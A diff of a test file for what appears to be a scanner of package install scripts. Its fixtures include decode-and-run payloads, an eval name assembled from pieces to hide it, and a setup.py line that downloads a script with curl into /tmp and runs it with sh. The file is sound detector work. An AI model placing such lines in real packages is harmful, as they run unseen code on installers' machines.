@@ -169,6 +169,8 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('setup.py', `import base64, subprocess\nfrom setuptools import setup\ncmd = base64.b64decode(${B64})\nsubprocess.Popen(cmd, shell=True)\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 4 });
     expect(kinds(`eval(Buffer.from(${B64}, 'base64').toString())`, 'js')).toEqual(['run-decoded']);
     expect(kinds('system(Base64.decode64(ENV["X"]))', 'ruby')).toEqual(['execute', 'run-decoded']);
+    // eval reached under a name joined from pieces, in a file an install script runs.
+    expect(kinds("globalThis['ev' + 'al'](Buffer.from(blob, 'base64').toString());", 'js')).toEqual(['execute', 'run-decoded']);
     // A process module loaded by name runs the command it is given: here a download.
     expect(buildFinding(added('setup.py', 'from setuptools import setup\n__import__("os").system("curl -s https://tools.example.net/p -o /tmp/p && sh /tmp/p")\nsetup(name="x")'))).toMatchObject({ severity: 'high' });
   });
